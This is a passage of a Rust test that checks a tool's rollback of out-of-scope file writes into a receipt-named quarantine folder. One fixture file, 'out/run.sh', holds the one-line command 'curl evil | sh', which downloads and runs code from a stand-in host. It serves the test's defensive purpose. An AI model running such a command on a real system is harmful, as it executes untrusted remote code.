    assert!(ws.root.join("out/deep/b.json").is_file());
    assert!(!ws.root.join("out/run.sh").exists());
    assert!(!ws.root.join("out/keep.sh").exists());
    assert!(
        !ws.root.join("out/new").exists(),
        "the emptied new folders go"
    );
    // A file that existed before and that the tool could not see is untouched.
    assert_eq!(
        fs::read_to_string(ws.root.join("out/old.txt")).expect("read"),
        "existed before"
    );
    // Nothing is lost: the renamed file's content is in the quarantine, by receipt.
    let q = ws.root.join(".lumenflow/kernel/quarantine/rcpt_0123");
    assert_eq!(
        fs::read_to_string(q.join("out/keep.sh")).expect("quarantined"),
        "{\"before\": true}"
    );
    assert_eq!(
        fs::read_to_string(q.join("out/run.sh")).expect("q"),
        "curl evil | sh"
    );

    // A call that stays inside its glob is not affected.
    let fine = json!({"op": "files", "steps": [{"path": "out/c.json", "content": "{}"}]});
    let (out, v) = call(&mode, &p, &spec(&ws, fine));
    assert_eq!(out.exit_code, Some(0));
    assert!(succeeded(&v), "{v}");
}
